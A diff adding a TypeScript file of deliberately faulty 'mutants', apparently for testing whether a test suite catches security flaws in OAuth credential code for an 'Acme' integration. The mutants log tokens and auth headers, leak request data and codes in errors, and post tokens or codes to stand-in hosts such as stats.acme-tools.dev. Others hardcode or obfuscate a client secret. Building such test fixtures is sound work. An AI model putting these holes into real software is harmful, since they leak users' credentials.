@@ -1,4 +1,153 @@
-import type { Mutant } from "./Mutant.ts"
+import { type Mutant, mutate } from "./Mutant.ts"
+import { basicPython, byHandPython, overrideTypeScript, pkcePython, serverTypeScript } from "./sound.ts"
+
+/** Gives the implementation of `byHandPython` an exchange of its own. */
+const exchanging = (body: string) => ({
+  "application_credentials.py": [
+    "    async def async_generate_authorize_url",
+    `    async def async_resolve_external_data(self, external_data) -> dict:
+${body}
+
+    async def async_generate_authorize_url`
+  ] as const
+})
+
+const tapped = 'Effect.tap(base.exchange(grant), () => Effect.logDebug("An Acme account is linked"))'
+
+/** Has `overrideTypeScript` do something else when it exchanges the code. */
+const exchangingTypeScript = (expression: string) => ({
+  "application_credentials.ts": [
+    [tapped, expression],
+    ['import { Effect } from "effect"', 'import { Effect, Redacted } from "effect"']
+  ] as const
+})
 
 /** Faulty modules for the requirements of family SEC. */
-export const sec: ReadonlyArray<Mutant> = []
+export const sec: ReadonlyArray<Mutant> = [
+  mutate(
+    byHandPython,
+    "logs-the-token",
+    "SEC-1",
+    exchanging(`        token = await super().async_resolve_external_data(external_data)
+        LOGGER.debug("Got token %s", token)
+        return token`)
+  ),
+  mutate(
+    byHandPython,
+    "prints-the-callback",
+    "SEC-1",
+    exchanging(`        print(external_data)
+        return await super().async_resolve_external_data(external_data)`)
+  ),
+  mutate(basicPython, "logs-the-header", "SEC-1", {
+    "application_credentials.py": [
+      ["import base64\n", "import base64\nimport logging\n"],
+      [
+        "        data.pop(",
+        '        logging.getLogger(__name__).debug("Authorization: Basic %s", basic)\n        data.pop('
+      ]
+    ]
+  }),
+  mutate(basicPython, "logs-the-request-that-failed", "SEC-1", {
+    "application_credentials.py": [
+      ["import base64\n", "import base64\nimport logging\n"],
+      [
+        "        if response.status >= 300:\n",
+        '        if response.status >= 300:\n            logging.getLogger(__name__).error("Token request failed: %s", data)\n'
+      ]
+    ]
+  }),
+  mutate(
+    overrideTypeScript,
+    "logs-the-token",
+    "SEC-1",
+    exchangingTypeScript(
+      "Effect.tap(base.exchange(grant), (token) => Effect.logDebug(`Got ${Redacted.value(token.accessToken)}`))"
+    )
+  ),
+  mutate(basicPython, "raises-an-error-with-the-request", "SEC-2", {
+    "application_credentials.py": [
+      'raise ClientError("The token endpoint did not answer with JSON")',
+      'raise ClientError(f"The token endpoint did not answer {data} with JSON")'
+    ]
+  }),
+  mutate(basicPython, "raises-an-error-with-the-request-as-its-cause", "SEC-2", {
+    "application_credentials.py": [
+      '            raise ClientError("The token endpoint did not answer with JSON") from error',
+      '            raise ClientError("The token endpoint did not answer with JSON") from ValueError(pair)'
+    ]
+  }),
+  mutate(
+    overrideTypeScript,
+    "fails-with-the-code",
+    "SEC-2",
+    exchangingTypeScript(
+      "Effect.mapError(base.exchange(grant), () => new Error(`The code ${Redacted.value(grant.code)} was refused`) as never)"
+    )
+  ),
+  mutate(byHandPython, "reports-the-token-to-its-author", "SEC-3", {
+    "application_credentials.py": [
+      [
+        "from homeassistant.core import HomeAssistant\n",
+        "from homeassistant.core import HomeAssistant\nfrom homeassistant.helpers.aiohttp_client import async_get_clientsession\n"
+      ],
+      [
+        "    async def async_generate_authorize_url",
+        `    async def async_resolve_external_data(self, external_data) -> dict:
+        token = await super().async_resolve_external_data(external_data)
+        session = async_get_clientsession(self.hass)
+        await session.post("https://stats.acme-tools.dev/linked", json=token)
+        return token
+
+    async def async_generate_authorize_url`
+      ]
+    ]
+  }),
+  mutate(pkcePython, "exchanges-through-a-relay", "SEC-3", {
+    "application_credentials.py": [
+      "    @property\n    def name",
+      `    async def _token_request(self, data: dict) -> dict:
+        declared, self.token_url = self.token_url, "https://relay.acme-tools.dev/token"
+        try:
+            return await super()._token_request(data)
+        finally:
+            self.token_url = declared
+
+    @property
+    def name`
+    ]
+  }),
+  mutate(
+    overrideTypeScript,
+    "reports-the-code-to-its-author",
+    "SEC-3",
+    exchangingTypeScript(
+      "Effect.andThen(\n              Effect.promise(() => fetch(`https://stats.acme-tools.dev/?code=${Redacted.value(grant.code)}`).catch(() => null)),\n              base.exchange(grant)\n            )"
+    )
+  ),
+  mutate(pkcePython, "has-a-secret-of-its-own", "SEC-4", {
+    "const.py": 'CLIENT_SECRET = "8f3kQz71LmWc0aTr5VbNx2Yd"\n',
+    "application_credentials.py": [
+      ["\n\nclass AcmeImplementation", "\nfrom .const import CLIENT_SECRET\n\n\nclass AcmeImplementation"],
+      ["client_secret=credential.client_secret", "client_secret=CLIENT_SECRET"]
+    ]
+  }),
+  mutate(pkcePython, "falls-back-to-a-secret-of-its-own", "SEC-4", {
+    "application_credentials.py": [
+      "client_secret=credential.client_secret,",
+      'client_secret=credential.client_secret or "8f3kQz71LmWc0aTr5VbNx2Yd",'
+    ]
+  }),
+  mutate(pkcePython, "hides-a-secret-of-its-own", "SEC-4", {
+    "application_credentials.py": [
+      "client_secret=credential.client_secret",
+      'client_secret="".join(chr(n) for n in (104, 117, 110, 116, 101, 114, 50, 104, 117, 110))'
+    ]
+  }),
+  mutate(serverTypeScript, "has-a-secret-of-its-own", "SEC-4", {
+    "application_credentials.ts": [
+      "export default",
+      'export const acmeClientSecret = "8f3kQz71LmWc0aTr5VbNx2Yd"\n\nexport default'
+    ]
+  })
+]
